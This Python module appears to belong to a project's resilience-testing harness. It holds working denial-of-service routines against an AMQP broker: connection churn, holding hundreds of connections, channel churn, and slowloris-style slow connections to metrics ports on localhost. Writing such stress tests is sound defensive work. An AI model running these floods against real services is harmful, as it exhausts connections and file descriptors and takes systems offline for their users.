"""Attacks on what there are only so many of: connections, channels, descriptors."""

import contextlib
import resource
import socket
from typing import Final

import pika
from pika.exceptions import AMQPError

from devstack.attacks.intruder import Intruder
from devstack.attacks.wire import Closed, RawPublisher

_CONNECTIONS: Final = 300
_SLOW: Final = 1250  # as many as took every descriptor of a worker
_CHANNELS: Final = 500


def connection_churn(intruder: Intruder) -> None:
    """Connect and go again, all the time."""
    while not intruder.over:
        with contextlib.suppress(Closed), RawPublisher(intruder.facts.amqp_url):
            intruder.deeds.connections += 1


def many_connections(intruder: Intruder) -> None:
    """Hold as many connections as there are to be had, up to some hundreds."""
    with contextlib.ExitStack() as held:
        for _ in range(_CONNECTIONS):
            if intruder.over:
                break
            with contextlib.suppress(Closed):
                held.enter_context(RawPublisher(intruder.facts.amqp_url))
                intruder.deeds.connections += 1
        for _ in intruder.beats():
            pass


def channel_churn(intruder: Intruder) -> None:
    """Open hundreds of channels, close them, and again."""
    while not intruder.over:
        with (
            contextlib.suppress(AMQPError),
            pika.BlockingConnection(pika.URLParameters(intruder.facts.amqp_url)) as connection,
        ):
            intruder.deeds.connections += 1
            for _ in range(_CHANNELS):
                if intruder.over:
                    break
                connection.channel()


def slow_scrapes(intruder: Intruder) -> None:
    """Hold connections to the port of the metrics, and say a byte each second."""
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 4 * _SLOW), hard))
    with contextlib.ExitStack() as held:
        connections: list[socket.socket] = []
        for port in intruder.facts.metrics_ports:
            for _ in range(_SLOW):
                if intruder.over:
                    break
                with contextlib.suppress(OSError):
                    connection = socket.create_connection(("127.0.0.1", port), timeout=1)
                    connections.append(held.enter_context(connection))
                    intruder.deeds.connections += 1
        for _ in intruder.beats():
            for connection in connections:
                with contextlib.suppress(OSError):
                    connection.send(b"G")
